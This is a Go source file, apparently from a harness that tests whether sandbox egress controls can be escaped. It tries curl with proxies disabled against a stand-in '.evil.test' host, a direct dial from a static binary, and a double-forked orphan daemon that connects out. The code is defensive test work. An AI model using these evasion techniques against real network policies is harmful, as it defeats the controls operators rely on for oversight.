package main

import (
	"encoding/json"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// curlNoProxy: a subprocess told to ignore any proxy settings, with the
// denied name pinned to the world's address (DNS would refuse it).
func curlNoProxy(r *Result) {
	sni := marker(r.Vector) + ".evil.test"
	r.SNIs = append(r.SNIs, sni)
	cmd := exec.Command("curl", "-sS", "--noproxy", "*", "--max-time", "5", "--cacert", os.Getenv("ESCAPE_CA"),
		"--resolve", sni+":443:"+worldV4, "https://"+sni+"/")
	cmd.Env = append(os.Environ(), "HTTPS_PROXY=http://127.0.0.1:9", "https_proxy=http://127.0.0.1:9", "NO_PROXY=*")
	b, err := cmd.CombinedOutput()
	r.note("curl: %v %q", err, clip(b))
	if err == nil {
		r.escape("curl fetched https://%s/", sni)
	}
}

// staticResolveAndDial: this binary is static (CGO_ENABLED=0, Go's own
// resolver, no libc, no proxy variables honoured). It resolves an allowed
// (wildcard) name the normal way, then dials a host no allowed name points to.
func staticResolveAndDial(r *Result) {
	addrs, err := net.LookupHost("static.wild.test")
	r.note("pure-Go lookup static.wild.test: %v %v", addrs, err)
	send(r, otherV4, 7000, []byte("esc-"+marker(r.Vector)))
}

// daemonDoubleFork: a grandchild in its own session, reparented to PID 1
// after its parent exits, connects once it is an orphan. Its Result comes
// back through a pipe.
func daemonDoubleFork(r *Result) {
	pr, pw, err := os.Pipe()
	if err != nil {
		r.Observed = "error"
		r.note("pipe: %v", err)
		return
	}
	defer pr.Close()
	cmd := exec.Command("/proc/self/exe", "--daemon", "stage1", r.Vector)
	cmd.ExtraFiles = []*os.File{pw}
	if err := cmd.Run(); err != nil {
		pw.Close()
		r.Observed = "error"
		r.note("stage1: %v", err)
		return
	}
	pw.Close()
	_ = pr.SetReadDeadline(time.Now().Add(15 * time.Second))
	b, err := io.ReadAll(pr)
	var dr Result
	if jerr := json.Unmarshal(b, &dr); jerr != nil {
		r.Observed = "error"
		r.note("no result from the daemon: %v %v %q", err, jerr, b)
		return
	}
	*r = dr
}

// daemonMain is the hidden --daemon mode: stage1 starts stage2 in a new
// session and exits at once; stage2 waits to be orphaned, then connects.
func daemonMain(args []string) int {
	if len(args) < 2 {
		return 2
	}
	pipe := os.NewFile(3, "result")
	switch args[0] {
	case "stage1":
		cmd := exec.Command("/proc/self/exe", "--daemon", "stage2", args[1])
		cmd.ExtraFiles = []*os.File{pipe}
		cmd.SysProcAttr = &syscall.SysProcAttr{Setsid: true}
		if err := cmd.Start(); err != nil {
			fmt.Fprintf(pipe, `{"vector":%q,"observed":"error","detail":"stage2: %v"}`, args[1], err)
			return 1
		}
		return 0 // the parent goes; stage2 lives on
	case "stage2":
		// A process of its own: its flows take ports from a range the
		// main attacker never reaches (see nextSrcPort).
		nextSrcPort.Store(daemonSrcPortBase)
		r := &Result{Vector: args[1], Observed: blocked}
		deadline := time.Now().Add(5 * time.Second)
		for os.Getppid() != 1 && time.Now().Before(deadline) {
			time.Sleep(10 * time.Millisecond)
		}
		sid, _ := unix.Getsid(0)
		r.note("orphan: ppid=%d sid=%d pid=%d", os.Getppid(), sid, os.Getpid())
		if os.Getppid() != 1 {
			r.Observed = "error"
			r.note("never reparented to PID 1")
		} else {
			send(r, otherV4, 7000, []byte("esc-"+marker(r.Vector)))
		}
		_ = json.NewEncoder(pipe).Encode(r)
		pipe.Close()
		return 0
	}
	return 2
}
